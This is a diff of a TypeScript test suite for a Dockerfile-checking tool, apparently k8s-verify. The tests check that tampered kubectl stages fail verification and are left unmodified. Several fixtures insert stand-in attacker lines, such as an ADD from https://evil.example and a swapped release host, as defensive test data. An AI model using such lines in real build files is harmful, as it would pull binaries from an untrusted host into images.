@@ -57,6 +57,11 @@ function bumped(name: string, text: string): { readonly found: readonly string[]
   return { found, text: changed };
 }
 
+/** The Dockerfile whose stages do not stand as they were printed. */
+function odd(): string {
+  return world.dir.join('Odd');
+}
+
 async function runs(command: readonly [string, ...string[]], exitCode: number): Promise<string> {
   const ran = await world.run(command);
   expect({ command, exitCode: ran.exitCode, stderr: ran.stderr }).toMatchObject({ exitCode });
@@ -125,7 +130,6 @@ describe.skipIf(process.platform !== 'linux')('the bot of examples/lock (needs L
 
   describe('stages that do not stand as they were printed', () => {
     let printed: string;
-    const file = (): string => world.dir.join('Odd');
     beforeAll(async () => {
       printed = await runs(['k8s-verify', 'digest', 'kubectl', VERSION, '--format', 'dockerfile'], 0);
     });
@@ -142,40 +146,44 @@ describe.skipIf(process.platform !== 'linux')('the bot of examples/lock (needs L
         () => `${printed}ADD https://evil.example/kubectl /kubectl\n`,
       ],
     ])('fail and are left alone where %s', async (_, text) => {
-      writeFileSync(file(), text() + REST);
-      const before = readFileSync(file(), 'utf8');
-      await runs([...check, file(), world.releases.url], 1);
-      await runs([...refresh, file()], 1);
-      expect(readFileSync(file(), 'utf8')).toBe(before);
+      writeFileSync(odd(), text() + REST);
+      const before = readFileSync(odd(), 'utf8');
+      await runs([...check, odd(), world.releases.url], 1);
+      await runs([...refresh, odd()], 1);
+      expect(readFileSync(odd(), 'utf8')).toBe(before);
     });
 
     it('fail where they come from another host, and where a later stage has the name of one', async () => {
-      writeFileSync(file(), printed.replaceAll(world.releases.url, 'https://evil.example') + REST);
-      await runs([...check, file(), world.releases.url], 1);
-      writeFileSync(file(), `${printed}\nFROM evil as Kubectl\n${REST}`);
-      await runs([...check, file(), world.releases.url], 1);
+      writeFileSync(odd(), printed.replaceAll(world.releases.url, 'https://evil.example') + REST);
+      const [host, name] = [/, or not of http/, /Kubectl is the name of a stage that was printed/];
+      expect((await world.run([...check, odd(), world.releases.url])).stderr).toMatch(host);
+      writeFileSync(odd(), `${printed}\nFROM evil as Kubectl\n${REST}`);
+      expect(await world.run([...check, odd(), world.releases.url])).toMatchObject({
+        exitCode: 1,
+        stderr: expect.stringMatching(name),
+      });
     });
 
     it('are printed again without their last comment, and what is below stays', async () => {
-      writeFileSync(file(), without(/^# then, .*\n/m) + REST);
-      await runs([...check, file(), world.releases.url], 0);
-      await runs([...refresh, file()], 0);
-      expect(readFileSync(file(), 'utf8')).toBe(printed + REST);
+      writeFileSync(odd(), without(/^# then, .*\n/m) + REST);
+      await runs([...check, odd(), world.releases.url], 0);
+      await runs([...refresh, odd()], 0);
+      expect(readFileSync(odd(), 'utf8')).toBe(printed + REST);
     });
 
     it('are printed again for each block by itself, also for two of one component', async () => {
       await world.publish(NEXT);
       const other = await runs(['k8s-verify', 'digest', 'kubectl', NEXT, '--format', 'dockerfile'], 0);
       const both = `${printed}\n${other}${REST}`;
-      writeFileSync(file(), both);
-      await runs([...refresh, file()], 0);
-      expect(readFileSync(file(), 'utf8')).toBe(both);
+      writeFileSync(odd(), both);
+      await runs([...refresh, odd()], 0);
+      expect(readFileSync(odd(), 'utf8')).toBe(both);
     });
 
     it('are left alone where an option makes k8s-verify print something else', async () => {
-      writeFileSync(file(), printed + REST);
-      await runs([...refresh, file(), '--help'], 1);
-      expect(readFileSync(file(), 'utf8')).toBe(printed + REST);
+      writeFileSync(odd(), printed + REST);
+      await runs([...refresh, odd(), '--help'], 1);
+      expect(readFileSync(odd(), 'utf8')).toBe(printed + REST);
     });
   });
 
